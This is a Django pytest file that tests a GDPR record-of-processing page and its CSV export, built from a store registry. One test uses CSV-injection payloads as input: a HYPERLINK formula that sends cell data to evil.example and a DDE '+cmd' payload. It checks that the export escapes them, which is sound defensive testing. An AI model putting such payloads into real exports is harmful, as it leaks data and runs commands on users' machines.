"""The record of processing, generated from the store registry."""

from __future__ import annotations

import csv
import io

import pytest

from tests.dsr.helpers import add_store

pytestmark = pytest.mark.django_db


def test_the_record_lists_every_store_with_its_purposes_bases_recipients_and_retention(
    compliance_client,
):
    add_store(
        "newsletter",
        "tests.dsr.connectors.FlakyConnector",
        name="Newsletter platform",
        categories=["contact", "marketing"],
        purposes="Sending the newsletter",
        legal_basis="Consent",
        recipients="Mailer Inc. (processor)",
        country="US",
        transfer_safeguard="Standard contractual clauses",
        retention_rule="Until unsubscribed, then 30 days",
        data_subjects="Newsletter subscribers",
    )
    page = compliance_client.get("/dashboard/processing/").content.decode()
    for text in (
        # GDPR Art. 30(1): the DPO, whose data, the security measures.
        "Data protection officer",
        "Newsletter subscribers",
        "Customers with an account; people who made a privacy request or choice without one",
        "Security measures",
        "Staff sign in with two-factor authentication",
        "Inper Privacy Portal",
        "Newsletter platform",
        "Marketing choices",
        "Sending the newsletter",
        "Mailer Inc. (processor)",
        "United States",
        "Standard contractual clauses",
        "Until unsubscribed, then 30 days",
    ):
        assert text in page, text
    body = b"".join(compliance_client.get("/dashboard/processing.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0][:3] == ["Store", "Owner", "In use"]
    newsletter = next(row for row in rows if row[0] == "Newsletter platform")
    assert newsletter[6] == "Consent" and newsletter[9].startswith("United States")
    assert newsletter[4] == "Newsletter subscribers"


def test_a_cell_a_spreadsheet_would_run_as_a_formula_stays_text_in_the_csv(compliance_client):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    add_store(
        "crm",
        "tests.dsr.connectors.FlakyConnector",
        name=formula,
        purposes="+cmd|' /C calc'!A0",
        legal_basis="@SUM(1+1)",
        recipients="-2+3",
    )
    body = b"".join(compliance_client.get("/dashboard/processing.csv").streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode())))
    crm = next(row for row in rows if "HYPERLINK" in row[0])
    assert crm[0] == "'" + formula
    assert crm[5] == "'+cmd|' /C calc'!A0" and crm[6] == "'@SUM(1+1)" and crm[8] == "'-2+3"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_officers_cannot_reach_the_registrys_secrets(compliance_user):
    # The registry is read-only for officers: no permission to change stores (or their
    # secrets), in the admin or anywhere else.
    assert compliance_user.has_perm("dsr.view_datastore")
    assert not compliance_user.has_perm("dsr.change_datastore")
    assert not compliance_user.has_perm("dsr.add_datastore")


def test_an_officer_reading_in_german_reads_the_registrys_texts_in_german(
    compliance_client, compliance_user
):
    compliance_user.preferred_language = "de"
    compliance_user.save(update_fields=["preferred_language"])
    add_store(
        "newsletter",
        "tests.dsr.connectors.FlakyConnector",
        name="Newsletter platform",
        country="IE",
        transfer_safeguard="Hosted in the EU",
        legal_basis="Consent (GDPR Art. 6(1)(a))",
    )
    page = compliance_client.get("/dashboard/processing/").content.decode()
    assert "In der EU gehostet" in page and "Hosted in the EU" not in page
